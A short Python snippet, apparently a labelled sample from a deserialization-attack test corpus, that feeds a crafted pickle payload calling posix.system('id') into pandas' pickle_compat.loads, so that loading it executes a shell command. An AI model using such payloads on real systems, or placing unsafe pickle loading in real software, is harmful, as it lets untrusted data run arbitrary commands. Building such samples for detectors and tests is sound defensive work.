# class: pickle_like
# technique: pd.compat.pickle_compat.loads (control)
# goal: exec
import pandas as pd

obj = pd.compat.pickle_compat.loads(b"cposix\nsystem\n(S'id'\ntR.")
df = pd.DataFrame({"x": [obj]})
